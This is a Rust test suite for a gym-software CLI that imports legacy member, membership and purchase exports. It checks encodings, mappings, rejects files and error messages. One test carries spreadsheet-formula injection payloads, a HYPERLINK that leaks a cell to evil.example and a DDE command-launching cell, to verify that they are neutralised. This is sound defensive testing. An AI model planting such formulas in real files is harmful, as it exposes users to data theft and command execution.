//! `gymapi import` over the files old systems really export (tests/fixtures/import, written by its
//! make.py): every form imports exactly what the clean CSV does; refused rows go to a rejects file
//! that imports once fixed; `inspect` says what it found; a mapping file's mistakes name their line.

use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::common::TestApp;

const KINDS: [&str; 6] = ["plans", "members", "memberships", "attendance", "products", "purchases"];

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/import")
}

fn gymapi(args: &[&str], key: Option<&str>, base: &str) -> std::process::Command {
    let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_gymapi"));
    cmd.arg("import").args(args).env("GYMAPI_BASE_URL", base).env_remove("DATABASE_URL").env_remove("REDIS_URL");
    match key {
        Some(k) => cmd.env("GYMAPI_KEY", k),
        None => cmd.env_remove("GYMAPI_KEY"),
    };
    cmd
}

/// Runs a command off the test's runtime (the server shares it).
async fn output(mut cmd: std::process::Command) -> std::process::Output {
    tokio::task::spawn_blocking(move || cmd.output().unwrap()).await.unwrap()
}

async fn import(app: &TestApp, key: &str, args: &[&str]) -> std::process::Output {
    let mut all = vec!["--quiet"];
    all.extend(args);
    let out = output(gymapi(&all, Some(key), &app.address)).await;
    assert!(
        out.status.success(),
        "{args:?}: {}\n{}",
        String::from_utf8_lossy(&out.stderr),
        String::from_utf8_lossy(&out.stdout)
    );
    out
}

/// What the gym's read endpoints hold, without what differs between two imports of the same data
/// (ids, references by id, the times of writing), each list in legacy id order.
async fn holdings(app: &TestApp, key: &str) -> Value {
    let mut all = serde_json::Map::new();
    for path in ["/members", "/memberships", "/membership-subscriptions", "/attendance", "/products", "/purchases"] {
        let r = app.get(key, &format!("{path}?per_page=100")).await;
        assert_eq!(r.status, 200, "{path}: {}", r.body);
        let mut rows: Vec<Value> = r.body["data"].as_array().unwrap().iter().map(strip).collect();
        rows.sort_by_key(|r| r["legacy_id"].as_str().unwrap_or_default().to_string());
        assert!(!rows.is_empty(), "{path} is empty");
        all.insert(path.to_string(), Value::from(rows));
    }
    Value::Object(all)
}

fn strip(v: &Value) -> Value {
    match v {
        Value::Object(o) => Value::Object(
            o.iter()
                .filter(|(k, _)| {
                    !(k.as_str() == "id"
                        || (k.ends_with("_id") && k.as_str() != "legacy_id")
                        || matches!(k.as_str(), "created_at" | "updated_at"))
                })
                .map(|(k, v)| (k.clone(), strip(v)))
                .collect(),
        ),
        Value::Array(a) => Value::Array(a.iter().map(strip).collect()),
        other => other.clone(),
    }
}

fn path(p: &Path) -> &str {
    p.to_str().unwrap()
}

/// Semicolons, Windows-1252, German dates and money and words (a folder, through `--dir`, and the
/// same export as .xlsx and .ods sheets); tabs, UTF-16 and US dates with a YAML mapping; `|` with a
/// UTF-8 byte-order mark and no mapping at all: each gym ends up holding what the clean CSV gives.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn every_file_form_imports_what_the_clean_csv_does() {
    let app = TestApp::spawn_with(|c| c.rate_limit_per_minute = 1_000_000).await;
    let f = fixtures();
    let clean = app.gym_in("Clean", "Europe/Berlin").await;
    for kind in KINDS {
        import(&app, &clean.live_key, &[path(&f.join(format!("clean/{kind}.csv")))]).await;
    }
    let expected = holdings(&app, &clean.live_key).await;
    assert_eq!(expected["/members"].as_array().unwrap().len(), 8);
    assert_eq!(expected["/members"][0]["first_name"], "Jürgen");
    assert_eq!(expected["/members"][0]["visits_count"], 2);

    let europe = f.join("europe.toml");
    let gym = app.gym_in("Europe CSV", "Europe/Berlin").await;
    import(&app, &gym.live_key, &["--mapping", path(&europe), "--dir", path(&f.join("europe"))]).await;
    assert_eq!(holdings(&app, &gym.live_key).await, expected, "europe/*.csv");

    for book in ["Export.xlsx", "Export.ods"] {
        let gym = app.gym_in(book, "Europe/Berlin").await;
        for kind in KINDS {
            let file = f.join("europe").join(book);
            import(&app, &gym.live_key, &["--mapping", path(&europe), "--entity", kind, path(&file)]).await;
        }
        assert_eq!(holdings(&app, &gym.live_key).await, expected, "{book}");
    }

    // us.yaml gives its time zone: the gym's own (UTC here) does not count.
    let gym = app.gym_in("US", "UTC").await;
    import(&app, &gym.live_key, &["--mapping", path(&f.join("us.yaml")), "--dir", path(&f.join("us"))]).await;
    assert_eq!(holdings(&app, &gym.live_key).await, expected, "us/*.txt");

    let gym = app.gym_in("Pipe", "Europe/Berlin").await;
    import(&app, &gym.live_key, &["--dir", path(&f.join("pipe"))]).await;
    assert_eq!(holdings(&app, &gym.live_key).await, expected, "pipe/*.csv");
}

/// 2,000 members with 3 bad rows (a date that does not exist, a status word the mapping does not
/// know, an email the server refuses): 1,997 go in, exactly those 3 go to the rejects file with
/// their reasons, and the rejects file, fixed, imports alone.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn refused_rows_go_to_the_rejects_file_which_imports_once_fixed() {
    let app = TestApp::spawn_with(|c| c.rate_limit_per_minute = 1_000_000).await;
    let gym = app.gym_in("Rejects", "Europe/Berlin").await;
    let dir = tempfile::tempdir().unwrap();
    let mut text =
        String::from("Mitgliedsnummer;Vorname;Nachname;E-Mail;Telefon;Geburtsdatum;Ort;Status;Bemerkung\r\n");
    for i in 0..2_000 {
        let (born, status, email) = match i {
            500 => ("31.02.1990", "Aktiv", format!("m{i}@example.de")),
            1_200 => ("01.01.1990", "Gesperrt", format!("m{i}@example.de")),
            1_900 => ("01.01.1990", "Aktiv", "kein-at-zeichen".to_string()),
            _ => ("01.01.1990", if i % 5 == 0 { "Gekündigt" } else { "Aktiv" }, format!("m{i}@example.de")),
        };
        text.push_str(&format!("M{i};Jürgen;Müller {i};{email};;{born};Köln;{status};\r\n"));
    }
    let (bytes, _, _) = encoding_rs::WINDOWS_1252.encode(&text);
    let file = dir.path().join("Mitglieder.csv");
    std::fs::write(&file, &bytes).unwrap();
    let rejects = dir.path().join("rejects.csv");
    let mapping = fixtures().join("europe.toml");
    let args = ["--mapping", path(&mapping), "--entity", "members", "--json", "--rejects", path(&rejects)];

    let out = import(&app, &gym.live_key, &[&args[..], &[path(&file)]].concat()).await;
    let summary: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        (summary["rows"].as_u64(), summary["created"].as_i64(), summary["rejected"].as_u64()),
        (Some(2_000), Some(1_997), Some(3)),
        "{summary}"
    );
    let members = app.get(&gym.live_key, "/members?per_page=1").await.body;
    assert_eq!(members["meta"]["total"], 1_997);

    let written = std::fs::read_to_string(&rejects).unwrap();
    let lines: Vec<&str> = written.trim_start_matches('\u{feff}').lines().collect();
    assert_eq!(lines.len(), 4, "{written}");
    assert!(lines[0].ends_with(";Bemerkung;import_errors"), "{}", lines[0]);
    assert!(
        lines[1].starts_with("M500;") && lines[1].contains("31.02.1990") && lines[1].contains("not a date"),
        "{}",
        lines[1]
    );
    assert!(
        lines[2].starts_with("M1200;") && lines[2].contains("Gesperrt") && lines[2].contains("value map"),
        "{}",
        lines[2]
    );
    assert!(lines[3].starts_with("M1900;") && lines[3].contains("email:"), "{}", lines[3]);

    // The owner fixes the three rows (the reasons column may stay) and imports the rejects alone.
    let fixed = written
        .replace("31.02.1990", "28.02.1990")
        .replace(";Gesperrt;", ";Aktiv;")
        .replace("kein-at-zeichen", "m1900@example.de");
    std::fs::write(&rejects, fixed).unwrap();
    let again = dir.path().join("rejects-again.csv");
    let args =
        ["--mapping", path(&mapping), "--entity", "members", "--json", "--rejects", path(&again), path(&rejects)];
    let out = import(&app, &gym.live_key, &args).await;
    let summary: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!((summary["created"].as_i64(), summary["rejected"].as_u64()), (Some(3), Some(0)), "{summary}");
    assert_eq!(app.get(&gym.live_key, "/members?per_page=1").await.body["meta"]["total"], 2_000);
    let found = app.get(&gym.live_key, "/members?search=m500@").await.body;
    assert_eq!(found["data"][0]["date_of_birth"], "1990-02-28");

    // Without --rejects the first bad row stops the run, as before, naming its line.
    let out = output(gymapi(
        &["--mapping", path(&mapping), "--entity", "members", path(&file)],
        Some(&gym.live_key),
        &app.address,
    ))
    .await;
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("line 502: column Geburtsdatum (date_of_birth): \"31.02.1990\" is not a date"), "{stderr}");
}

/// `inspect` needs no server: it prints what it detected for each fixture, and a starting mapping
/// it writes reads the file once its value maps are filled in.
#[tokio::test]
async fn inspect_says_what_it_found() {
    let f = fixtures();
    let (europe, us) = (f.join("europe.toml"), f.join("us.yaml"));
    let cases: [(PathBuf, Vec<&str>, &[&str]); 5] = [
        (
            f.join("europe/Mitglieder.csv"),
            vec!["--mapping", path(&europe)],
            &[
                "encoding windows-1252 (detected)",
                "delimiter ';' (detected)",
                "8 rows",
                "Geburtsdatum -> date_of_birth",
                "\"first_name\":\"Jürgen\"",
            ],
        ),
        (
            f.join("us/members.txt"),
            vec!["--mapping", path(&us)],
            &["encoding UTF-16LE (detected)", "delimiter tab (detected)", "Birthday -> date_of_birth"],
        ),
        (
            f.join("pipe/members.csv"),
            vec![],
            &["encoding UTF-8 (detected)", "delimiter '|' (detected)", "rows refused before sending: 0"],
        ),
        (
            f.join("europe/Export.xlsx"),
            vec!["--mapping", path(&europe)],
            &["workbook, sheet \"Mitglieder\"", "\"date_of_birth\":\"1980-04-12\""],
        ),
        (
            f.join("europe/Export.ods"),
            vec!["--mapping", path(&europe), "--sheet", "Mitglieder"],
            &["workbook, sheet \"Mitglieder\"", "\"status\":\"inactive\""],
        ),
    ];
    for (file, extra, expected) in cases {
        let mut args = vec!["inspect", "--entity", "members", "--sample", "8"];
        args.extend(extra);
        args.push(path(&file));
        let out = output(gymapi(&args, None, "http://127.0.0.1:9")).await;
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert!(out.status.success(), "{file:?}: {}", String::from_utf8_lossy(&out.stderr));
        for e in expected {
            assert!(stdout.contains(e), "{file:?}: no {e:?} in\n{stdout}");
        }
    }

    let dir = tempfile::tempdir().unwrap();
    let written = dir.path().join("start.toml");
    let file = f.join("europe/Mitglieder.csv");
    let out =
        output(gymapi(&["inspect", "--entity", "members", "--write-mapping", path(&written), path(&file)], None, ""))
            .await;
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let start = std::fs::read_to_string(&written).unwrap();
    for e in [
        "encoding = \"windows-1252\"",
        "delimiter = \";\"",
        "date_formats = [\"%d.%m.%Y\"]",
        "\"Vorname\" = \"first_name\"",
        "\"Geburtsdatum\" = \"date_of_birth\"",
        "\"Aktiv\" = \"\"",
    ] {
        assert!(start.contains(e), "no {e:?} in\n{start}");
    }
    std::fs::write(
        &written,
        start
            .replace("\"Aktiv\" = \"\"", "\"Aktiv\" = \"active\"")
            .replace("\"Gekündigt\" = \"\"", "\"Gekündigt\" = \"inactive\""),
    )
    .unwrap();
    let out = output(gymapi(
        &["inspect", "--entity", "members", "--mapping", path(&written), "--json", path(&file)],
        None,
        "",
    ))
    .await;
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["refused_locally"], 0, "{report}");
    assert_eq!(report["sample"][0]["row"]["status"], "active");
}

/// Every mistake of a mapping file is reported at once, each with its line, before anything is sent.
#[tokio::test]
async fn a_mapping_file_error_names_its_line() {
    let dir = tempfile::tempdir().unwrap();
    let mapping = dir.path().join("bad.toml");
    std::fs::write(
        &mapping,
        "date_formats = [\"%d.%m.%Q\"]\ncurrency = \"EUR\"\n\n[members.columns]\nVorname = \"first_nam\"\nStatus = { field = \"status\", values = { Aktiv = \"activ\" } }\n\n[members.constants]\nstatus = \"gone\"\n",
    )
    .unwrap();
    let file = fixtures().join("europe/Mitglieder.csv");
    let out = output(gymapi(
        &["--mapping", path(&mapping), "--entity", "members", path(&file)],
        Some("svc_live_x"),
        "http://127.0.0.1:9",
    ))
    .await;
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    let at = |line: usize, what: &str| format!("bad.toml:{line}: {what}");
    for e in [
        at(1, "date_formats: \"%d.%m.%Q\" has an unknown format directive"),
        at(5, "members.columns.Vorname: \"first_nam\" is not a field of members rows"),
        at(6, "members.columns.Status.values.Aktiv: maps to a value status cannot take"),
        at(9, "members.constants.status: status cannot take it"),
    ] {
        assert!(stderr.contains(&e), "no {e:?} in\n{stderr}");
    }
}

/// A mapping's constant that only the gym's time zone can read (a time without an offset) and
/// that zone cannot (its clocks skip it) stops the run before anything is sent, naming it; it was
/// left out of every row without a word.
#[tokio::test]
async fn a_constant_the_gyms_zone_cannot_read_is_refused() {
    let app = TestApp::spawn().await;
    let gym = app.gym_in("Zone", "Europe/Berlin").await;
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("visits.csv");
    std::fs::write(&file, "legacy_id,status\nV-1,granted\nV-2,granted\n").unwrap();
    let mapping = dir.path().join("visits.toml");
    std::fs::write(&mapping, "[attendance.constants]\noccurred_at = \"2026-03-29 02:30\"\n").unwrap();
    let args = ["--quiet", "--mapping", path(&mapping), "--entity", "attendance", path(&file)];
    let out = output(gymapi(&args, Some(&gym.live_key), &app.address)).await;
    assert_eq!(out.status.code(), Some(2), "{}", String::from_utf8_lossy(&out.stderr));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("attendance.constants.occurred_at") && stderr.contains("does not exist in Europe/Berlin"),
        "{stderr}"
    );
    assert_eq!(app.get(&gym.live_key, "/attendance").await.body["meta"]["total"], 0);
}

/// A header past the columns a row may have (200,000 of them), or of 16,000 columns no field
/// takes, is refused in one sentence: the first with the limit and its count, the second naming
/// ten of the columns and counting the rest. The first said the limit once per column past it,
/// the second listed every column (6.4 MB and 140 kB on one line).
#[tokio::test]
async fn a_header_of_many_columns_is_refused_in_one_sentence() {
    let app = TestApp::spawn().await;
    let gym = app.gym("Wide").await;
    let dir = tempfile::tempdir().unwrap();
    let cases: [(usize, &[&str]); 2] =
        [(200_000, &["more than 16384 cells", "(200003 cells)"]), (16_000, &["Spalte0, Spalte1", "and 15990 more"])];
    for (columns, expected) in cases {
        let file = dir.path().join("members.csv");
        let extra: Vec<String> = (0..columns).map(|i| format!("Spalte{i}")).collect();
        let header = format!("legacy_id,first_name,last_name,{}", extra.join(","));
        std::fs::write(&file, format!("{header}\nM-1,Ada,Lovelace{}\n", ",".repeat(columns))).unwrap();
        let args = ["--quiet", "--entity", "members", path(&file)];
        let out = output(gymapi(&args, Some(&gym.live_key), &app.address)).await;
        assert_eq!(out.status.code(), Some(2), "{}", String::from_utf8_lossy(&out.stderr));
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(stderr.len() < 2_000, "{columns}: {} bytes: {}", stderr.len(), &stderr[..2_000]);
        assert!(expected.iter().all(|e| stderr.contains(e)), "{stderr}");
    }
    assert_eq!(app.get(&gym.live_key, "/members").await.body["meta"]["total"], 0);
}

/// A refused row's cells that a spreadsheet program would run as formulas are neutralised in the
/// rejects file (OWASP's leading `'`), and the rejects file, fixed and imported, gives back the
/// original values.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_rejects_file_is_safe_to_open_and_imports_the_original_values() {
    let app = TestApp::spawn().await;
    let gym = app.gym("Formulas").await;
    let dir = tempfile::tempdir().unwrap();
    let hyperlink = r#"=HYPERLINK("http://evil.example/leak?"&C2,"Click")"#;
    let mut w = csv::Writer::from_path(dir.path().join("members.csv")).unwrap();
    w.write_record(["legacy_id", "first_name", "last_name", "email", "phone", "city"]).unwrap();
    w.write_record(["M1", "Ada", "Lovelace", "ada@example.com", "", ""]).unwrap();
    w.write_record(["M2", "'quoted", hyperlink, "not-an-email", "+49 170 1234567", "=cmd|' /C calc'!A0"]).unwrap();
    w.flush().unwrap();
    drop(w);
    let (file, rejects) = (dir.path().join("members.csv"), dir.path().join("rejects.csv"));
    let args = ["--entity", "members", "--json", "--rejects", path(&rejects), path(&file)];
    let out = import(&app, &gym.live_key, &args).await;
    let summary: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!((summary["created"].as_i64(), summary["rejected"].as_u64()), (Some(1), Some(1)), "{summary}");

    let written = std::fs::read_to_string(&rejects).unwrap();
    let mut reader = csv::Reader::from_reader(written.trim_start_matches('\u{feff}').as_bytes());
    let row = reader.records().next().unwrap().unwrap();
    for cell in &row {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a live formula in the rejects file: {cell:?}");
    }
    assert_eq!(&row[2], format!("'{hyperlink}"));

    std::fs::write(&rejects, written.replace("not-an-email", "m2@example.com")).unwrap();
    let again = ["--entity", "members", "--json", path(&rejects)];
    let summary: Value = serde_json::from_slice(&import(&app, &gym.live_key, &again).await.stdout).unwrap();
    assert_eq!(summary["created"].as_i64(), Some(1), "{summary}");
    let found = app.get(&gym.live_key, "/members?search=m2@example.com").await.body;
    let m = &found["data"][0];
    assert_eq!(
        (m["first_name"].as_str(), m["last_name"].as_str(), m["phone"].as_str(), m["city"].as_str()),
        (Some("'quoted"), Some(hyperlink), Some("+49 170 1234567"), Some("=cmd|' /C calc'!A0"))
    );
}

/// A chain's export: its studios, and members naming theirs. `--dir` imports the facilities
/// first, and each member lands in the studio the old system had them in; a member naming a
/// studio that was never imported is refused on that row.
#[tokio::test]
async fn members_land_in_the_facilities_the_old_system_had_them_in() {
    let app = TestApp::spawn().await;
    let gym = app.gym_in("Chain", "Europe/Berlin").await;
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("facilities.csv"),
        "legacy_id,name,timezone\nS1,City studio,\nS2,Lake studio,Europe/Vienna\n",
    )
    .unwrap();
    std::fs::write(
        dir.path().join("members.csv"),
        "legacy_id,first_name,last_name,facility_legacy_id\nM1,Ada,City,S1\nM2,Bo,Lake,S2\nM3,Cy,Default,\n",
    )
    .unwrap();
    import(&app, &gym.live_key, &["--dir", path(dir.path())]).await;
    let studios = app.get(&gym.live_key, "/facilities").await.body;
    let id_of = |legacy: &str| {
        let all = studios["data"].as_array().unwrap();
        all.iter().find(|f| f["legacy_id"] == legacy).map(|f| f["id"].as_str().unwrap().to_string()).unwrap()
    };
    assert_eq!(studios["meta"]["total"], 3, "the first facility and two imported: {studios}");
    let members = app.get(&gym.live_key, "/members?per_page=100").await.body;
    let home = |legacy: &str| {
        let all = members["data"].as_array().unwrap();
        all.iter().find(|m| m["legacy_id"] == legacy).map(|m| m["facility_id"].as_str().unwrap().to_string()).unwrap()
    };
    assert_eq!(home("M1"), id_of("S1"));
    assert_eq!(home("M2"), id_of("S2"));
    let first = gymapi::accounts::first_facility(&app.db, gym.id).await.unwrap().unwrap();
    assert_eq!(home("M3"), first.id.to_string());

    let rows = serde_json::json!({"rows": [{"legacy_id": "M4", "first_name": "Di", "last_name": "Lost", "facility_legacy_id": "S9"}]});
    let refused = app.request("POST", "/import/members", Some(&gym.live_key), Some(rows), &[]).await;
    assert_eq!(refused.status, 422, "{}", refused.body);
    assert!(
        refused.body["errors"]["rows.0.facility_legacy_id"][0].as_str().unwrap().contains("S9"),
        "{}",
        refused.body
    );
}

/// A row with a stray delimiter (more cells than the header) goes to the rejects file with its
/// reason, and the rows after it are imported; the row read back from the rejects file keeps the
/// extra cell, past the reasons column, until it is removed. Before, writing that row to the
/// rejects file ended the run (exit 2) and the rows after it were never sent.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_row_with_a_stray_delimiter_goes_to_the_rejects_file_and_the_run_goes_on() {
    let app = TestApp::spawn().await;
    let gym = app.gym("Stray").await;
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("members.csv");
    std::fs::write(
        &file,
        "legacy_id,first_name,last_name\nS1,Ada,Lovelace\nS2,Grace,Hopper,Navy\nS3,Alan\nS4,Alan,Turing\n",
    )
    .unwrap();
    let rejects = dir.path().join("rejects.csv");
    let args = ["--entity", "members", "--json", "--rejects", path(&rejects), path(&file)];
    let out = import(&app, &gym.live_key, &args).await;
    let summary: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!((summary["created"].as_i64(), summary["rejected"].as_u64()), (Some(2), Some(2)), "{summary}");
    let written = std::fs::read_to_string(&rejects).unwrap();
    let lines: Vec<&str> = written.trim_start_matches('\u{feff}').lines().collect();
    assert_eq!(lines[0], "legacy_id,first_name,last_name,import_errors", "{written}");
    assert!(lines[1].starts_with("S2,Grace,Hopper,") && lines[1].ends_with(",Navy"), "{written}");
    assert!(lines[1].contains("4 cells where the header has 3"), "{written}");
    assert!(lines[2].starts_with("S3,Alan,,") && lines[2].contains("2 cells where the header has 3"), "{written}");

    // Unfixed, the stray cell is still there and the row is refused again; without it, it imports.
    let again = dir.path().join("again.csv");
    let args = ["--entity", "members", "--json", "--rejects", path(&again), path(&rejects)];
    let summary: Value = serde_json::from_slice(&import(&app, &gym.live_key, &args).await.stdout).unwrap();
    assert_eq!(summary["rejected"].as_u64(), Some(2), "{summary}");
    std::fs::write(&rejects, written.replace(",Navy", "").replace("S3,Alan,,", "S3,Alan,Kay,")).unwrap();
    let summary: Value = serde_json::from_slice(&import(&app, &gym.live_key, &args).await.stdout).unwrap();
    assert_eq!((summary["created"].as_i64(), summary["rejected"].as_u64()), (Some(2), Some(0)), "{summary}");
    assert_eq!(app.get(&gym.live_key, "/members?per_page=1").await.body["meta"]["total"], 4);
}
